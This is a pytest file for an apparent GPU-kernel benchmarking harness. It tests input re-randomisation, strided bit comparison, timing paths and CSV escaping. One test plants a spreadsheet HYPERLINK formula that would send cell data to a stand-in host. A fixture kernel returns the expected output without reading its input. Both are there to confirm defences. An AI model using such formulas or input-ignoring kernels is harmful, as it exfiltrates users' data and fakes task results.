"""review20's findings in this session's diff (docs/faults.md, "This session's diff reviewed (review20, 2026-12-06)")
that want a test of their own file: r4, a reference's one sorted input kept in every seed of the check; r7, a column
compared bit for bit."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import torch

from kernelopt.harness.inputs import rerandomize, same_bits

from .conftest import check_in_process

ARANGE_REFERENCE = """import torch

SHAPES = [{"n": 64}]


def get_inputs(n=64, device="cpu"):
    return [torch.arange(n, dtype=torch.float32, device=device)]


def reference(x):
    return x * 2 + 1
"""
IGNORES_ITS_INPUT = """import torch


def run(x):
    return torch.arange(x.numel(), dtype=x.dtype, device=x.device) * 2 + 1
"""


def test_a_sorted_vector_keeps_its_order_only_beside_data_that_is_permuted() -> None:
    """breaker20's e4 keeps a sorted vector in order in the check's seeds 1+ (a table searched by value, beside the
    values, floating or integer, fewer or more than its entries); where every input is such a vector, all are
    scaled, so that a seed differs from seed 0 (review20 r4) and the order stays (break20 b39)."""
    table, data = torch.linspace(-1, 1, 16), torch.randn(4, 8, generator=torch.Generator().manual_seed(0))
    alone = rerandomize([torch.arange(16.0)], 1)[0]  # scaled, in order (break20 b39: permuted, an order was lost)
    assert not torch.equal(alone, torch.arange(16.0)) and torch.equal(torch.sort(alone).values, alone)
    assert torch.equal(rerandomize([data, table], 1)[1], table)
    assert torch.equal(rerandomize([torch.tensor([0.3, -1.0, 2.0]), table], 1)[1], table)  # more edges than values
    assert torch.equal(rerandomize([torch.tensor([5, 1, 9]), table], 1)[1], table)  # integer queries of the edges
    twins = rerandomize([torch.arange(16.0), torch.arange(16.0)], 1)
    assert not any(torch.equal(t, torch.arange(16.0)) for t in twins)


def test_a_kernel_that_ignores_a_reference_s_one_sorted_input_fails_the_check(tmp_path: Path) -> None:
    """A reference whose one input is ``torch.arange(n)`` for every seed, and a kernel that returns the answer for
    that input without reading it: the check's seeds 1+ permute the input, and the kernel fails there (since
    breaker20's e4 the vector kept its order in every seed, and the kernel passed: review20 r4)."""
    (tmp_path / "reference.py").write_text(ARANGE_REFERENCE)
    (tmp_path / "kernel.py").write_text(IGNORES_ITS_INPUT)
    result = check_in_process(tmp_path, "v1")
    assert result.failure is not None and "seed 1" in result.failure.message, result.failure


def test_a_column_is_compared_bit_for_bit() -> None:
    """:func:`same_bits` of strided views (a kernel's output ``out[:, 0]``, an input a column of a larger tensor): equal
    and unequal told apart, where viewing a tensor of last stride 4 as bytes raised RuntimeError (review20 r7), which
    the graph's stale test took for a failed capture and the timed check for an error of the gate's own."""
    a = torch.randn(8, 4)
    b = a.clone()
    assert same_bits(a[:, 0], b[:, 0]) and same_bits([a[::2, 1]], [b[::2, 1].clone()])
    b[3, 0] = -b[3, 0]
    assert not same_bits(a[:, 0], b[:, 0])
    z = torch.randn(4, dtype=torch.complex64)
    assert same_bits(z.conj(), z.conj().resolve_conj()) and not same_bits(z.conj(), z)  # a conjugate view


def test_a_timeline_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
    """newuser17's timeline CSV writes the implementer's own words (its action, a failure's line) as they are: an
    action ``=HYPERLINK(...)`` (a hostile agent's, agents19) ran as a formula where a spreadsheet opened the file. Such a
    cell is written behind an apostrophe; the figures, negative ones included, stay numbers (review20 r9)."""
    import csv

    from kernelopt.report import collect
    from kernelopt.report.timeline_csv import timeline_csv
    from tests.test_report_render import build_report_workspace

    data = collect(build_report_workspace(tmp_path / "ws"))
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"details")'
    data.versions[1].record.optimization.action_description = formula
    data.versions[1].record.performance.comparison_with_previous.speedup = -1.5  # a number, never quoted
    rows = list(csv.DictReader(timeline_csv(data).splitlines()))
    assert rows[1]["action"] == "'" + formula and rows[1]["speedup_vs_previous"] == "-1.5"
    assert rows[0]["action"] == "baseline"


class _PlayedGraph:
    """A CUDA graph as the CPU plays it: ``replay`` recomputes the outputs its capture made (``x * 2`` into each),
    or nothing where the kernel's work was never captured (a launch on the legacy default stream)."""

    def __init__(self, sets: list[list[torch.Tensor]], outs: list[torch.Tensor], captured: bool) -> None:
        self.sets, self.outs, self.captured = sets, outs, captured

    def replay(self) -> None:
        for k, out in enumerate(self.outs):
            if self.captured:
                torch.mul(self.sets[k % len(self.sets)][0], 2, out=out)


@pytest.mark.parametrize("captured", [True, False])
def test_prepare_s_own_graph_branch_keeps_a_sound_graph_and_drops_a_stale_one(
    monkeypatch: pytest.MonkeyPatch, captured: bool
) -> None:
    """``timers._prepare`` itself on a "cuda" device played by the CPU (review20: tests/test_timedgpu20_cases.py plays a
    copy of its graph branch, which would pass were ``_prepare`` to stop calling ``replay_stale``): a graph whose
    replay does its calls' work is the sampler, its probe every output over every set it reads; one whose replay
    left the outputs as they were is dropped for calls back to back, said in a warning."""
    from kernelopt.harness import timers
    from kernelopt.harness.model import BenchSettings, TimingMethod

    sets = [[torch.randn(64, generator=torch.Generator().manual_seed(s))] for s in range(3)]

    def capture(fn: Any, sets: list[list[torch.Tensor]], n: int) -> tuple[_PlayedGraph, list[torch.Tensor]]:
        outs = [fn(*sets[k % len(sets)]) for k in range(n)]
        return _PlayedGraph(sets, outs, captured), outs

    def take(work: Any, calls: int, *, flush: Any, spin_us: float = timers.SPIN_US) -> Any:
        return timers._cpu_take(work, calls)

    monkeypatch.setattr(timers, "_gpu_batch_us", lambda fn, sets, n: (2.0, 1.0))
    monkeypatch.setattr(timers, "_calls_per_sample", lambda fn, sets, settings, gpu_us: 5)
    monkeypatch.setattr(timers, "_capture", capture)
    monkeypatch.setattr(timers, "_gpu_take", take)
    monkeypatch.setattr(torch.cuda, "synchronize", lambda *_: None)
    # this graph stands in for the capture alone: the check of its revisited sets (verdicts22 x1, a second capture) is
    # tests/test_verdicts22_cases.py's, on graphs the CPU plays
    monkeypatch.setattr(timers, "replay_skips", lambda *_: (None, False))
    sampler = timers._prepare(lambda x: x * 2, sets, "cuda", BenchSettings(), None)
    if not captured:
        assert sampler.method is TimingMethod.CUDA_BATCH and "replay left call 4's output" in sampler.warnings[0]
        return
    assert sampler.method is TimingMethod.CUDA_GRAPH and sampler.probe_sets == (0, 1, 2) and sampler.probe
    probed = sampler.probe()
    assert [k for k, _ in probed] == [1, 0, 2, 1, 0] and all(torch.equal(o, sets[k][0] * 2) for k, o in probed)


@pytest.mark.parametrize(("host_us", "spin_us"), [(0.0, 100.0), (400.0, 800.0), (1e6, 50_000.0)])
def test_a_call_timed_alone_waits_behind_a_spin_that_covers_its_host_work_up_to_the_bound(
    monkeypatch: pytest.MonkeyPatch, host_us: float, spin_us: float
) -> None:
    """``timers._prepare``'s events branch (a call of 20 us or more, one a sample): its spin is twice the host's time a
    call the estimate said (claim20), at least ``SPIN_US`` (a call that waits on the GPU says 0: review20 r1) and at
    most ``MAX_SPIN_US`` (r1: it was unbounded, 2 s a sample for a host time of 1 s)."""
    from kernelopt.harness import timers
    from kernelopt.harness.model import BenchSettings, TimingMethod

    spins: list[float] = []

    def take(work: Any, calls: int, *, flush: Any, spin_us: float = timers.SPIN_US) -> Any:
        spins.append(spin_us)
        return timers._cpu_take(work, calls)

    monkeypatch.setattr(timers, "_gpu_batch_us", lambda fn, sets, n: (30.0, host_us))
    monkeypatch.setattr(timers, "_gpu_take", take)
    sampler = timers._prepare(lambda x: x * 2, [[torch.ones(4)]], "cuda", BenchSettings(), None)
    assert sampler.method is TimingMethod.CUDA_EVENTS and spins == [spin_us, spin_us]
    assert sampler.est_sample_us == 30.0 + spin_us
